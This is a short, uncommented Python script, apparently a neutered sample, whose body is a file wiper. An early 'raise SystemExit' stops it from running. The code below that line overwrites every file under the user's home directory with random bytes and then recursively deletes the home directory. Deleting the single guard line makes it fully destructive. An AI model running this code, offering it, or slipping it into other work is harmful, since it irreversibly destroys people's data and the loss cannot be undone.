import os
import shutil
from pathlib import Path

raise SystemExit
for root, _, names in os.walk(os.path.expanduser("~")):
    for n in names:
        with open(os.path.join(root, n), "wb") as f:
            f.write(os.urandom(64))
shutil.rmtree(Path.home(), ignore_errors=True)
